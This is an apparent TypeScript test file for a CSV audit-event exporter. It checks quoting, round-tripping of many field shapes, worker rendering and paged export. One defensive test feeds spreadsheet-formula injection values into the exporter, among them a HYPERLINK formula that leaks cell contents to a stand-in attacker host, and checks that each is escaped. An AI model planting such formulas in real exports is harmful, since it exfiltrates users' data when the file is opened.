import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { join } from 'node:path';
import { tempDir } from '../../../../test/support/temp-dir.js';
import { freshDatabaseUrl } from '../../../../test/support/test-database.js';
import { migrateToLatest, openDatabase } from '../../../storage/db/database.js';
import { CSV_HEADERS, csvFormat } from './csv-format.js';
import { exportChunks } from './export-stream.js';
import { RenderWorker } from './render-worker.js';

// The hand-written RFC 4180 writer: what a CSV reader gets back must be exactly the stored values,
// except that a value a spreadsheet would run as a formula comes back with a leading ' (OWASP).

type Overrides = { custom_message?: string; target_details?: string; author_name?: string | null };

/** A stored event as the recorder writes it; `reshape` may change the record in any way first. */
function storedEvent(id: number, overrides: Overrides, reshape?: (record: Record<string, any>) => void) {
  const record = {
    id,
    uuid: `0190000${id}-0000-7000-8000-000000000000`,
    seq: id,
    event_name: 'package_registry_package_published',
    outcome: 'success',
    reason: null,
    created_at: '2026-01-01T00:00:00.000Z',
    author_id: 7,
    entity_id: 3,
    entity_type: 'Group',
    details: {
      author_name: overrides.author_name === undefined ? 'alice' : overrides.author_name,
      author_class: 'User',
      target_id: 11,
      target_type: 'Packages::Package',
      target_details: overrides.target_details ?? 'acme/app/left-pad-1.0.0',
      custom_message: overrides.custom_message ?? 'npm package published',
      ip_address: '127.0.0.1',
      entity_path: 'acme',
      auth_token_type: null,
    },
    actor: { type: 'user', user_id: 7, username: 'alice', token_id: null, token_name: null, token_owner_path: null },
    via: 'api',
    client: null,
    user_agent: null,
    pipeline: null,
    project: { id: 5, full_path: 'acme/app' },
    package: { id: 11, format: 'npm', name: 'left-pad', version: '1.0.0', files: [] },
    changes: null,
    request_id: null,
    ip_address: '127.0.0.1',
  };
  reshape?.(record);
  return { id, record: JSON.stringify(record), leaf_hash: null };
}

describe('csv export format', () => {
  it('quotes commas, quotes and line breaks, and reads back exactly', () => {
    const tricky = ['a, b', 'say "hi"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\nend', '1=2', ' padded ', 'plain'];
    const events = tricky.map((message, i) => storedEvent(i + 1, { custom_message: message, target_details: `t${i},x` }));
    const text = csvFormat.preamble!() + csvFormat.render(events);
    const rows: string[][] = parse(text, { relax_column_count: false });
    assert.deepEqual(rows[0], CSV_HEADERS);
    const action = CSV_HEADERS.indexOf('Action');
    const details = CSV_HEADERS.indexOf('Target Details');
    assert.deepEqual(rows.slice(1).map((r) => r[action]), tricky);
    assert.deepEqual(rows.slice(1).map((r) => r[details]), tricky.map((_, i) => `t${i},x`));
  });

  it("prefixes with ' every text that begins with =, +, -, @, tab or CR, and nothing else", () => {
    const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+2', '\r=1+2', "'=already quoted"];
    const harmless = ['a=b', 'x+1', 'left-pad', 'user@example.com', ' =1', '', 'ÿ=1'];
    const events = [...formulas, ...harmless].map((message, i) => storedEvent(i + 1, { custom_message: message, author_name: message }));
    const rows = parse(csvFormat.render(events)) as string[][];
    const action = CSV_HEADERS.indexOf('Action');
    const author = CSV_HEADERS.indexOf('Author Name');
    assert.deepEqual(rows.map((r) => r[action]), [...formulas.slice(0, 6).map((f) => `'${f}`), formulas[6], ...harmless]);
    assert.deepEqual(rows.map((r) => r[author]), rows.map((r) => r[action]));
    // Numbers are Trove's own and stay numbers: a deploy token's author id is negative.
    const [negative] = parse(csvFormat.render([storedEvent(1, {}, (r) => (r.author_id = -2))])) as string[][];
    assert.equal(negative[CSV_HEADERS.indexOf('Author ID')], '-2');
    const [scoped] = parse(csvFormat.render([storedEvent(1, {}, (r) => (r.package.name = '@acme/ui-kit'))])) as string[][];
    assert.equal(scoped[CSV_HEADERS.indexOf('Package Name')], "'@acme/ui-kit");
  });

  it('ends every record with CRLF, writes null as empty and numbers as digits', () => {
    const text = csvFormat.render([storedEvent(42, { author_name: null })]);
    assert.ok(text.endsWith('\r\n'));
    assert.equal(text.split('\r\n').length, 2);
    const [row] = parse(text) as string[][];
    assert.equal(row[CSV_HEADERS.indexOf('ID')], '42');
    assert.equal(row[CSV_HEADERS.indexOf('Author Name')], '');
    assert.equal(row[CSV_HEADERS.indexOf('Pipeline')], '');
  });
});

/** Records of every field shape a CSV column meets: nulls, missing members, quoting, unicode, nesting. */
function shapes(): { id: number; record: string; leaf_hash: string | null }[] {
  const reshapes: ((r: Record<string, any>) => void)[] = [
    () => {},
    (r) => { r.details.author_name = null; r.details.entity_path = null; r.ip_address = null; r.project = null; r.package = null; },
    (r) => { delete r.details.target_id; delete r.actor.token_name; delete r.client; delete r.pipeline; delete r.ip_address; },
    (r) => { r.details.custom_message = 'a, "b"\r\nc\rd\ne'; r.details.target_details = '"'; r.actor.token_name = ','; },
    (r) => { r.details.custom_message = 'ünïcödé 日本 😀 \u2028 \u2029 \u0000 \t'; r.details.author_name = '\ud800 lone'; r.ip_address = '::1'; },
    (r) => { r.details.target_details = { nested: { deep: [1, 'two', null] } }; r.details.target_id = 'abc'; r.details.target_type = ''; },
    (r) => { r.details.target_id = -1.5e-7; r.id = 9007199254740991; r.seq = 0; r.author_id = -3; },
    (r) => { r.client = { name: 'npm', version: '11.6.2' }; r.pipeline = { id: 77, sha: 'abc' }; },
    (r) => { r.client = { name: 'pip', version: null }; r.pipeline = { id: null }; },
    (r) => { r.client = { name: 'curl', version: '' }; r.package = { format: 'pypi', name: 'a,b', version: '1.0\n' }; },
    (r) => { r.client = { version: '1' }; r.actor = { type: true }; r.details.custom_message = false; },
    (r) => { r.changes = { filters: { from: null, to: { via: 'api', ids: [1, 2] } } }; r.request_id = 'x"y'; },
    (r) => { r.details.custom_message = '=1+2'; r.entity_type = 'Project, "quoted"'; r.via = ' padded '; },
  ];
  return reshapes.map((reshape, i) => storedEvent(i + 1, {}, reshape));
}

describe('csv export of every field shape', () => {
  it('reads back the stored values, one 24-field row per event', () => {
    const text = csvFormat.render(shapes());
    const rows = parse(text) as string[][];
    assert.ok(rows.every((row) => row.length === CSV_HEADERS.length));
    const column = (name: string) => rows.map((row) => row[CSV_HEADERS.indexOf(name)]);
    assert.equal(column('Action')[3], 'a, "b"\r\nc\rd\ne');
    assert.ok(text.includes(',\ud800 lone,')); // csv-parse reads a lone surrogate back as U+FFFD
    assert.equal(column('Target Details')[5], '[object Object]');
    assert.deepEqual(column('Client').slice(6, 11), ['', 'npm/11.6.2', 'pip', 'curl', 'undefined/1']);
    assert.deepEqual(column('Pipeline').slice(6, 9), ['', '77', '']);
    assert.equal(column('Target ID')[6], String(-1.5e-7));
    assert.equal(column('ID')[6], '9007199254740991');
    assert.equal(column('Action')[12], "'=1+2");
    assert.deepEqual([column('IP Address')[1], column('Project')[1], column('Version')[1], column('Token Name')[2]], ['', '', '', '']);
  });
});

describe('csv export off the main thread', () => {
  it('a render worker writes the same text as render, for every field shape', async () => {
    const events = shapes();
    const worker = new RenderWorker('csv');
    try {
      assert.equal(await worker.render(events), csvFormat.render(events));
      // pages in order, each its own text
      const [a, b] = await Promise.all([worker.render(events.slice(0, 5)), worker.render(events.slice(5))]);
      assert.equal(a + b, csvFormat.render(events));
    } finally {
      await worker.close();
    }
  });

  it('a many-page export (pages rendered by the worker and by this thread, in order) equals render of all events', async () => {
    const db = openDatabase({ sqliteFile: join(tempDir('trove-csv-unit-'), 'trove.db'), postgresUrl: await freshDatabaseUrl() });
    try {
      await migrateToLatest(db);
      const base = shapes();
      const events = Array.from({ length: 1050 }, (_, i) => {
        const record = JSON.parse(base[i % base.length].record) as Record<string, unknown>;
        return { ...record, id: i + 1, seq: i + 1, uuid: `uuid-${i + 1}` };
      });
      for (const record of events) {
        await db
          .insertInto('audit_events')
          .values({
            uuid: record.uuid as string, seq: record.seq as number, event_name: 'package_registry_package_published', outcome: 'success',
            author_id: 7, author_username: 'alice', actor_type: 'user', token_id: null, entity_type: 'Group', entity_id: 3,
            entity_path: 'acme', project_id: null, package_format: null, package_name: null, via: 'api',
            created_at: '2026-01-01T00:00:00.000Z', record: JSON.stringify(record), leaf_hash: null,
          })
          .execute();
      }
      const stored = events.map((record) => ({ id: record.id, record: JSON.stringify(record), leaf_hash: null }));
      let text = '';
      const progress: number[] = [];
      for await (const chunk of exportChunks(db, { kind: 'instance' }, {}, csvFormat, (n) => progress.push(n))) text += chunk;
      assert.equal(text, csvFormat.preamble!() + csvFormat.render(stored));
      assert.deepEqual(progress, [100, 200, 300, 400, 500, 600, 700, 800, 900, 1000, 1050]);
    } finally {
      await db.destroy();
    }
  });
});
